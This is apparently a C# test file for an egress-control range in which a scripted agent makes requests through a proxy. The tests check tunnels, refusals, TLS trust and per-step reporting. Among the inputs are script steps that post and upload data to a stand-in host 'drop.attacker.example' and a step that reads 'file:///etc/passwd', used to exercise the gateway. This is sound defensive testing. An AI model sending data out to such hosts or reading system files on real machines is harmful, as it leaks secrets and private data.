using System.Text.Json;

namespace Sallyport.Range.Tests;

/// <summary>The scripted agent as a process that knows the world by its environment only.</summary>
public sealed class AgentTests(RangeUnderTest range) : IClassFixture<RangeUnderTest>
{
    [Fact]
    public async Task The_research_agent_reads_500_different_posts_through_a_proxy_with_credentials()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");

        var (exit, lines) = await RunAsync(proxy, ["research", "--count", "500"]);

        var step = Assert.Single(lines);
        Assert.Equal(0, exit);
        Assert.Equal(500, step.Number("posts"));
        Assert.Equal(10, step.Number("pages"));
        Assert.All(proxy.Tunnels, static authority => Assert.Equal("www.moltbook.com:443", authority));
        Assert.NotEmpty(proxy.Tunnels);
    }

    [Fact]
    public async Task Asking_for_more_posts_than_there_are_falls_short_and_says_how_many()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");

        var (exit, lines) = await RunAsync(proxy, ["research", "--count", "100000"]);

        Assert.Equal(1, exit);
        Assert.False(lines[0].GetProperty("ok").GetBoolean());
        Assert.True(lines[0].Number("posts") >= 520);
    }

    [Fact]
    public async Task A_refused_tunnel_is_reported_with_the_status_of_the_proxy_and_the_script_goes_on()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "ledger.corp.example");

        var (exit, lines) = await RunAsync(proxy, ["act"]);

        Assert.Equal(1, exit);
        Assert.Equal(200, lines[0].Number("status"));
        Assert.Equal("proxy_refused", lines[1].Text("failure"));
        Assert.Equal(403, lines[1].Number("proxy_status"));
        Assert.DoesNotContain("token", lines[1].Text("message"), StringComparison.Ordinal);
        Assert.Contains("127.0.0.1", lines[1].Text("message"), StringComparison.Ordinal);
        Assert.Equal(0, (await range.ReceivedAsync("host=ledger.corp.example&method=POST")).Number("matching"));
    }

    [Fact]
    public async Task A_denial_that_is_visible_is_decoded()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");
        var environment = new Dictionary<string, string> { ["HTTP_PROXY"] = proxy.Url };

        var (exit, output, _) = await RangeProcess.RunAsync(
            ["agent", "--script", "-"], """{"do":"get","url":"http://elsewhere.example/"}""", environment);

        var step = Lines(output)[0];
        Assert.Equal(1, exit);
        Assert.Equal(403, step.Number("status"));
        Assert.Equal("egress.denied", step.At("problem").Text("code"));
        Assert.Equal("ask", step.At("problem").Text("mend"));
        Assert.False(step.At("problem").TryGetProperty("nested", out _));
        Assert.Equal("d-17", step.At("gate_headers").Text("sallyport-decision"));
    }

    [Fact]
    public async Task Without_the_certificate_file_nothing_is_trusted()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");
        var environment = new Dictionary<string, string> { ["HTTPS_PROXY"] = proxy.Url };

        var (exit, output, _) = await RangeProcess.RunAsync(["agent", "research"], environment: environment);

        Assert.Equal(1, exit);
        Assert.Equal("tls", JsonElement.Parse(output).Text("failure"));
    }

    [Fact]
    public async Task Steps_run_as_their_lines_come_and_a_cut_stream_is_told()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");
        await using var agent = RangeProcess.Start(["agent", "--script", "-"], Environment(proxy));
        await agent.Input.WriteLineAsync("""{"do":"get","url":"https://wiki.corp.example/"}""");
        await agent.Input.FlushAsync(Runner.Cancellation);
        var first = await agent.ReadLineAsync();
        await agent.Input.WriteLineAsync(
            """{"do":"stream","url":"https://wiki.corp.example/_range/stream","untilCut":true,"announce":true}""");
        agent.Input.Close();
        var started = await agent.ReadLineAsync();
        proxy.Cut();
        var second = await agent.ReadLineAsync();

        Assert.Equal("get", first.Text("do"));
        Assert.Equal(200, first.Number("status"));
        Assert.True(started.GetProperty("started").GetBoolean());
        Assert.True(second.Number("events") > 0);
        Assert.Equal("cut", second.Text("ended"));
        Assert.True(second.GetProperty("ok").GetBoolean());
        Assert.Equal(0, await agent.EndAsync());
    }

    [Fact]
    public async Task Every_kind_of_step_tells_what_happened()
    {
        await using var proxy = new ConnectProxy(range.Server.Listen, refused: "none");
        const string Script = """
            {"do":"read-posts","base":"https://www.moltbook.com/api/v1","count":60}
            {"do":"post","url":"https://www.moltbook.com/api/v1/posts","body":{"submolt":"x","title":"y"}}
            {"do":"post","url":"https://drop.attacker.example/","body":"plain","headers":{"Content-Type":"text/plain"}}
            {"do":"request","method":"DELETE","url":"https://www.moltbook.com/api/v1/posts/1"}
            {"do":"stream","url":"https://www.moltbook.com/_range/stream?events=2"}
            {"do":"upload","url":"https://drop.attacker.example/_range/sink","count":3,"chunkBytes":10,"pauseMs":1}
            {"do":"socket","url":"wss://wiki.corp.example/_range/echo","count":2}
            {"do":"wait","pauseMs":1}
            {"do":"get","url":"https://moltbook.com/api/v1/posts"}
            """;

        var (exit, output, _) = await RangeProcess.RunAsync(["agent", "--script", "-"], Script, Environment(proxy));
        var lines = Lines(output);

        Assert.Equal(1, exit);
        Assert.Equal(60, lines[0].Number("posts"));
        Assert.Equal(401, lines[1].Number("status"));
        Assert.Equal(200, lines[2].Number("status"));
        Assert.Equal(401, lines[3].Number("status"));
        Assert.Equal((2, "end"), (lines[4].Number("events"), lines[4].Text("ended")));
        Assert.Equal((30, 200), (lines[5].Number("sent_bytes"), lines[5].Number("status")));
        Assert.Equal(2, lines[6].Number("echoes"));
        Assert.Equal("wait", lines[7].Text("do"));
        Assert.Equal(307, lines[8].Number("status"));
        Assert.Equal(
            [true, false, true, false, true, true, true, true, true], lines.Select(
                static line => line.GetProperty("ok").GetBoolean()));
        Assert.Equal(Enumerable.Range(1, 9), lines.Select(static line => line.Number("step")));
    }

    [Theory]
    [InlineData("nonsense")]
    [InlineData("null")]
    [InlineData("""{"do":"fly"}""")]
    [InlineData("""{"url":"https://x.example"}""")]
    [InlineData("""{"do":"get"}""")]
    [InlineData("""{"do":"get","url":"file:///etc/passwd"}""")]
    [InlineData("""{"do":"get","url":"https://x.example","unknown":1}""")]
    public async Task A_line_that_is_no_step_is_a_usage_error_with_its_number(string line)
    {
        var (exit, output, errors) = await RangeProcess.RunAsync(["agent", "--script", "-"], $"\n{line}\n");

        Assert.Equal(2, exit);
        Assert.Empty(output);
        Assert.Contains("Script line 2", errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_agent_without_a_script_is_a_usage_error() =>
        Assert.Equal(2, (await RangeProcess.RunAsync(["agent"])).Exit);

    [Fact]
    public async Task A_script_that_cannot_be_read_is_a_configuration_error() =>
        Assert.Equal(3, (await RangeProcess.RunAsync(["agent", "--script", "/nowhere/script"])).Exit);

    private Dictionary<string, string> Environment(ConnectProxy proxy) => new()
    {
        ["HTTPS_PROXY"] = proxy.Url,
        ["SSL_CERT_FILE"] = range.Server.CertificatePath,
    };

    private async Task<(int Exit, JsonElement[] Lines)> RunAsync(ConnectProxy proxy, string[] arguments)
    {
        var (exit, output, _) = await RangeProcess.RunAsync(["agent", .. arguments], environment: Environment(proxy));
        return (exit, Lines(output));
    }

    private static JsonElement[] Lines(string output) =>
        [.. output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(static line => JsonElement.Parse(line))];
}
